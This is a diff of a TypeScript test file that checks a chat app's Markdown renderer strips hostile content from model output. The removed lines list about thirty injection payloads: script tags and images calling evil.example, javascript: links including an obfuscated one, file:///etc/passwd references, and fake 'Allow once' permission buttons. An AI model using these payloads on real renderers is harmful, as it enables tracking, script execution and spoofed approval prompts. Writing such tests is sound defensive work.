@@ -3,44 +3,8 @@ import { InvalidInputError } from "@x/shared";
 import { describe, expect, it } from "vitest";
 import { ServicesContext } from "../../hooks/services-context.js";
 import { DrawnStage } from "../../testing/drawn-window.js";
+import { FORBIDDEN, HOSTILE_MARKDOWN } from "../../testing/hostile-markdown.js";
 import { Markdown } from "./markdown.js";
-
-const FORBIDDEN =
-  "img, script, iframe, object, embed, form, input, textarea, select, style, link, meta, svg:not([aria-hidden]), a, video, audio, base, [style], [onclick], [onerror], [onload], [href], [src], [srcset]";
-
-// Each may not fetch anything, run anything, or look like a control of the window's.
-const HOSTILE: readonly (readonly [string, string])[] = [
-  ["an image", "![x](https://evil.example/track.png)"],
-  ["an image by reference", "![x][1]\n\n[1]: https://evil.example/track.png"],
-  ["an image of a file", "![x](file:///etc/passwd)"],
-  ["an image with data", "![x](data:image/svg+xml;base64,PHN2Zz4=)"],
-  ["an image in a link", "[![x](https://evil.example/a.png)](https://evil.example)"],
-  ["an HTML image", '<img src="https://evil.example/a.png" onerror="alert(1)">'],
-  ["a script", "<script>fetch('https://evil.example')</script>"],
-  ["a script in a paragraph", "Hello <script src=//evil.example></script> there"],
-  ["a frame", '<iframe src="https://evil.example"></iframe>'],
-  ["an SVG", '<svg onload="alert(1)"><image href="https://evil.example"/></svg>'],
-  ["a style", "<style>body{background:url(https://evil.example)}</style>"],
-  ["a style attribute", '<p style="background:url(https://evil.example)">x</p>'],
-  ["a form", '<form action="https://evil.example"><input name=key><button>Allow once</button></form>'],
-  ["a button of ours", '<button class="bg-accent">Allow once</button>'],
-  ["a script address", "[Allow once](javascript:alert(1))"],
-  ["a hidden script address", "[x](java&#115;cript:alert(1))"],
-  ["a data address", "[x](data:text/html,<script>alert(1)</script>)"],
-  ["a file address", "[x](file:///etc/passwd)"],
-  ["an app address", "[x](app://copilot/index.html)"],
-  ["an automatic link", "https://evil.example and <https://evil.example> and www.evil.example"],
-  ["a mail address", "a@evil.example <mailto:a@evil.example>"],
-  ["a footnote", "x[^1]\n\n[^1]: ![y](https://evil.example/a.png)"],
-  ["a task list", "- [ ] Allow once\n- [x] done"],
-  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
-  ["a base", '<base href="https://evil.example">'],
-  ["a definition that shadows", "[a]\n\n[a]: javascript:alert(1)"],
-  ["a comment that opens", "<!-- <img src=https://evil.example> "],
-  ["CDATA", "<![CDATA[<img src=https://evil.example>]]>"],
-  ["HTML in a table", "| a |\n| - |\n| <img src=https://evil.example> |"],
-  ["a picture of a card", "### Allow file-write?\n\n**[Allow once](https://evil.example)**"],
-];
 
 function drawn(text: string, streaming: boolean): HTMLElement {
   const stage = new DrawnStage();
@@ -57,11 +21,11 @@ function forbidden(element: HTMLElement): readonly string[] {
 }
 
 describe("Markdown from a model (quality.md §4)", () => {
-  it.each(HOSTILE)("becomes nothing that fetches, runs or pretends: %s", (_, text) => {
+  it.each(HOSTILE_MARKDOWN)("becomes nothing that fetches, runs or pretends: %s", (_, text) => {
     expect(forbidden(drawn(text, false))).toEqual([]);
   });
 
-  it.each(HOSTILE)("nor while it is coming, wherever it is cut: %s", (_, text) => {
+  it.each(HOSTILE_MARKDOWN)("nor while it is coming, wherever it is cut: %s", (_, text) => {
     const { services } = new DrawnStage();
     const part = (length: number) => (
       <ServicesContext value={services}>
